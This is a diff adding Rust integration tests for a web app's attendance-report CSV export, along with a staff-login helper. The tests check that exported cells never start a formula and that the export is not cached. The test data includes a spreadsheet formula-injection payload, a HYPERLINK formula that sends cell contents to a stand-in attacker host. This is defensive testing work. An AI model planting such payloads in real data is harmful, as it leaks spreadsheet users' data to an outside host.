@@ -402,3 +402,169 @@ async fn a_flood_of_bad_logins_from_one_address_is_throttled_and_another_address
         200
     );
 }
+
+/// Signs in on the staff pages; returns the `Cookie` header value of the session.
+async fn staff_session(app: &crate::helpers::TestApp, email: &str, password: &str) -> String {
+    let form = app
+        .client
+        .get(app.url("/staff/login"))
+        .send()
+        .await
+        .expect("login form");
+    let login_cookie = form
+        .headers()
+        .get_all("set-cookie")
+        .iter()
+        .filter_map(|v| v.to_str().ok())
+        .find(|v| v.starts_with("cohorts_login="))
+        .and_then(|v| v.split(';').next())
+        .expect("login cookie")
+        .to_string();
+    let html = form.text().await.expect("html");
+    let csrf = html
+        .split("name=\"csrf\" value=\"")
+        .nth(1)
+        .and_then(|rest| rest.split('"').next())
+        .expect("csrf field")
+        .to_string();
+    let signed_in = app
+        .client
+        .post(app.url("/staff/login"))
+        .header("cookie", login_cookie)
+        .form(&[
+            ("email", email),
+            ("password", password),
+            ("csrf", &csrf),
+            ("next", "/staff"),
+        ])
+        .send()
+        .await
+        .expect("sign in");
+    assert_eq!(signed_in.status(), 303, "staff sign-in");
+    signed_in
+        .headers()
+        .get_all("set-cookie")
+        .iter()
+        .filter_map(|v| v.to_str().ok())
+        .find(|v| v.starts_with("cohorts_session="))
+        .and_then(|v| v.split(';').next())
+        .expect("session cookie")
+        .to_string()
+}
+
+#[tokio::test]
+async fn report_csv_cells_never_start_a_formula_and_are_not_cached() {
+    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
+        "+1 Plus",
+        "-2 Minus",
+        "@SUM(A1)",
+        "Plain Name",
+    ];
+    let placeholders: Vec<String> = (0..names.len()).map(|n| format!("Member {n}")).collect();
+    let people: Vec<(&str, Option<&str>, bool)> = placeholders
+        .iter()
+        .map(|n| (n.as_str(), None, true))
+        .collect();
+    let s = scenario(&app, Duration::days(3), &people).await;
+    for (member, name) in s.members.iter().zip(names) {
+        let response = app
+            .patch(
+                &format!("/api/v1/patients/{}", member.id),
+                &s.lead,
+                &json!({"name": name}),
+            )
+            .await;
+        assert_eq!(
+            response.status(),
+            200,
+            "a name may start with any printable character"
+        );
+    }
+    let api = app
+        .get(
+            &format!(
+                "/api/v1/programs/{}/attendance-report?format=csv",
+                s.program
+            ),
+            &s.lead,
+        )
+        .await;
+    assert_eq!(api.status(), 200);
+    let api_cache = api
+        .headers()
+        .get("cache-control")
+        .map(|v| v.to_str().unwrap_or_default().to_string());
+    let api_csv = api.text().await.expect("csv");
+
+    let lead_email = "sheet.lead@example.org";
+    let response = app
+        .post(
+            "/api/v1/users",
+            &app.admin_token,
+            &json!({"email": lead_email, "name": "Sheet Lead", "role": "program_lead",
+                    "password": "a long enough password", "program_ids": [s.program]}),
+        )
+        .await;
+    assert_eq!(response.status(), 201);
+    let cookie = staff_session(&app, lead_email, "a long enough password").await;
+    let page = app
+        .client
+        .get(app.url(&format!("/staff/programs/{}/report.csv", s.program)))
+        .header("cookie", cookie)
+        .send()
+        .await
+        .expect("staff csv");
+    assert_eq!(page.status(), 200);
+    let page_cache = page
+        .headers()
+        .get("cache-control")
+        .map(|v| v.to_str().unwrap_or_default().to_string());
+    let page_csv = page.text().await.expect("csv");
+
+    for (which, csv, cache) in [
+        ("API", &api_csv, api_cache),
+        ("staff", &page_csv, page_cache),
+    ] {
+        assert_eq!(cache.as_deref(), Some("no-store"), "{which} CSV cached");
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let header = reader.headers().expect("header").clone();
+        let name_at = header
+            .iter()
+            .position(|h| h == "name")
+            .expect("name column");
+        let held_at = header
+            .iter()
+            .position(|h| h == "held")
+            .expect("held column");
+        let mut seen = Vec::new();
+        for record in reader.records() {
+            let record = record.expect("row");
+            let name = record.get(name_at).expect("name").to_string();
+            assert!(
+                !name.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{which}: a formula cell {name:?}"
+            );
+            let held = record.get(held_at).expect("held");
+            assert!(
+                held.parse::<i64>().is_ok(),
+                "numbers stay numbers: {held:?}"
+            );
+            seen.push(name);
+        }
+        seen.sort();
+        let mut expected: Vec<String> = names
+            .iter()
+            .map(|n| {
+                if n.starts_with(['=', '+', '-', '@']) {
+                    format!("'{n}")
+                } else {
+                    n.to_string()
+                }
+            })
+            .collect();
+        expected.sort();
+        assert_eq!(seen, expected, "{which}: every name, readable");
+    }
+}
